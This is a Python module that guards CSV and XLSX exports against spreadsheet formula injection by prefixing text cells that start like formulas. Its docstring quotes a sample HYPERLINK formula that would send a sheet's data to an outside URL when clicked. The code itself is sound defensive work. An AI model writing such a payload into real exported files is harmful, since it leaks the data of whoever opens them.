"""The one guard of every CSV and XLSX taskbook writes against formula injection (CWE-1236).

A cell whose text starts with = + - @ (or a tab or carriage return, which some spreadsheets skip
before reading the rest as a formula) runs as a formula when Excel, WPS or LibreOffice opens the
file: a measure titled `=HYPERLINK("http://…?x="&A1,"详情")` would send the sheet's data away at a
click. Every writer (the audit CSV, the bulk export, the documents' workbooks) passes its cells
through here:

- CSV has no types, so such text gets a leading apostrophe, which the spreadsheet shows as the text
  typed; the bulk import removes it again (`unguard`).
- XLSX keeps the text unchanged as a string cell with Excel's quote prefix, so it is shown as typed
  and stays text even when the reader edits the cell.

Numbers and dates are typed values, never text, so a negative number is not touched.
"""

from __future__ import annotations

import datetime
from typing import Any

from openpyxl.cell.cell import Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_text(text: str) -> str:
    """Text for a CSV cell: a leading apostrophe when it would start a formula."""
    return "'" + text if looks_like_formula(text) else text


def csv_cell(value: Any) -> str:
    """Any value as a CSV cell: None empty, dates in ISO form, text guarded."""
    if value is None:
        return ""
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, str):
        return csv_text(value)
    return str(value)


def unguard(text: str) -> str:
    """A cell read back from a CSV this module wrote: the guarding apostrophe removed."""
    return text[1:] if text.startswith("'") and looks_like_formula(text[1:]) else text


def guard_xlsx(cell: Cell) -> Cell:
    """Keep a text cell that starts like a formula as text: a string cell (openpyxl would otherwise
    store "=..." as a formula) with the quote prefix Excel gives text typed after an apostrophe."""
    if isinstance(cell.value, str) and looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
